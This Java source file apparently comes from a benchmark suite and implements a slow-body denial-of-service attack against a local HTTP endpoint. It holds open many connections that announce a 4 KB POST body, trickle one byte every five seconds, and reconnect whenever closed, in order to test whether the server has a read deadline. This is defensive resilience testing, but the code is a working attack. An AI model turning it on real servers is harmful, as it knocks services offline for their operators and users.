package io.nextbest.bench;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.concurrent.ThreadLocalRandom;
import java.util.concurrent.atomic.AtomicInteger;

/**
 * Attack: CONNECTIONS connections that each send the head of POST /v1/decisions announcing a body of 4 KB,
 * its first 16 bytes, then one byte every 5 s, so that no body ever completes. A connection the server
 * closes (with an answer or without) is opened again at once, so the attack stays at full strength; the
 * server's closings and how long each connection lived show whether it has a read deadline. One thread and a
 * selector for all of them, as an attacker would do it cheaply.
 * Usage: SlowBodies PORT API_KEY CONNECTIONS; runs until stopped, then prints what the server did.
 */
public final class SlowBodies {
    private static final int ANNOUNCED_BODY = 4096;
    private static final byte[] FIRST_BODY_BYTES = "{\"customerId\": \"".getBytes(StandardCharsets.US_ASCII);
    private static final long TRICKLE_NANOS = 5_000_000_000L;

    private final int port;
    private final byte[] start;
    private final Selector selector;
    private final AttackTally tally;
    private final List<Long> lifetimesMillis = Collections.synchronizedList(new ArrayList<>());
    private final AtomicInteger open = new AtomicInteger();

    private SlowBodies(int port, String key) throws IOException {
        this.port = port;
        byte[] head = LoopbackHttp.postHead(port, "/v1/decisions", key, ANNOUNCED_BODY);
        this.start = new byte[head.length + FIRST_BODY_BYTES.length];
        System.arraycopy(head, 0, start, 0, head.length);
        System.arraycopy(FIRST_BODY_BYTES, 0, start, head.length, FIRST_BODY_BYTES.length);
        this.selector = Selector.open();
        this.tally = AttackTally.printedAtExit("slow bodies", this::printLifetimes);
    }

    public static void main(String[] args) throws IOException {
        new SlowBodies(Integer.parseInt(args[0]), args[1]).run(Integer.parseInt(args[2]));
    }

    /** One connection's body in progress. */
    private static final class Trickle {
        final long openedNanos = System.nanoTime();
        // Spread over the 5 s, so that the bytes do not all arrive in one burst.
        long nextByteNanos = openedNanos + ThreadLocalRandom.current().nextLong(TRICKLE_NANOS);
    }

    private void run(int connections) throws IOException {
        int wanted = connections;
        ByteBuffer answer = ByteBuffer.allocate(4096);
        ByteBuffer oneByte = ByteBuffer.allocate(1);
        while (true) {
            for (int missing = wanted - open.get(); missing > 0; missing--) {
                if (!openOne()) {
                    break;
                }
            }
            if (open.get() == wanted) {
                tally.underway();
            }
            selector.select(100);
            for (SelectionKey key : selector.selectedKeys()) {
                answer.clear();
                readAnswerOrClose(key, answer);
            }
            selector.selectedKeys().clear();
            long now = System.nanoTime();
            for (SelectionKey key : selector.keys()) {
                Trickle trickle = (Trickle) key.attachment();
                if (key.isValid() && trickle.nextByteNanos <= now) {
                    trickle.nextByteNanos += TRICKLE_NANOS;
                    oneByte.clear();
                    oneByte.put((byte) 'x').flip();
                    try {
                        ((SocketChannel) key.channel()).write(oneByte);
                        tally.count("bytes trickled");
                    } catch (IOException reset) {
                        closed(key, "closed by the server (write failed)");
                    }
                }
            }
        }
    }

    private boolean openOne() {
        SocketChannel channel = null;
        try {
            channel = SocketChannel.open();
            // With a timeout: a server whose accept queue is full would otherwise hold the one thread for minutes.
            channel.socket().connect(new InetSocketAddress("127.0.0.1", port), 2_000);
            channel.write(ByteBuffer.wrap(start));
            channel.configureBlocking(false);
            channel.register(selector, SelectionKey.OP_READ, new Trickle());
            open.incrementAndGet();
            tally.count("opened");
            return true;
        } catch (IOException refused) {
            closeQuietly(channel);
            tally.count("connect failed");
            return false;
        }
    }

    /** The server said something before the body was complete (an error answer) or closed the connection. */
    private void readAnswerOrClose(SelectionKey key, ByteBuffer answer) {
        try {
            int read = ((SocketChannel) key.channel()).read(answer);
            if (read < 0) {
                closed(key, "closed by the server without an answer");
            } else if (read > 0) {
                String text = new String(answer.array(), 0, answer.position(), StandardCharsets.US_ASCII);
                String[] status = text.split(" ", 3);
                closed(key, "closed after an answer " + (status.length > 1 ? status[1] : "?"));
            }
        } catch (IOException reset) {
            closed(key, "reset by the server");
        }
    }

    private void closed(SelectionKey key, String how) {
        Trickle trickle = (Trickle) key.attachment();
        lifetimesMillis.add((System.nanoTime() - trickle.openedNanos) / 1_000_000);
        tally.count(how);
        key.cancel();
        closeQuietly((SocketChannel) key.channel());
        open.decrementAndGet();
    }

    private static void closeQuietly(SocketChannel channel) {
        try {
            if (channel != null) {
                channel.close();
            }
        } catch (IOException ignored) {
            // already broken
        }
    }

    private void printLifetimes() {
        List<Long> lifetimes;
        synchronized (lifetimesMillis) {
            lifetimes = new ArrayList<>(lifetimesMillis);
        }
        Collections.sort(lifetimes);
        System.out.printf("slow bodies: %d open at the end; %d ended by the server%s%n", open.get(), lifetimes.size(),
                lifetimes.isEmpty() ? "" : String.format(", after %.1f s (shortest), %.1f s (median), %.1f s (longest)",
                        lifetimes.get(0) / 1000.0, lifetimes.get(lifetimes.size() / 2) / 1000.0,
                        lifetimes.get(lifetimes.size() - 1) / 1000.0));
    }
}
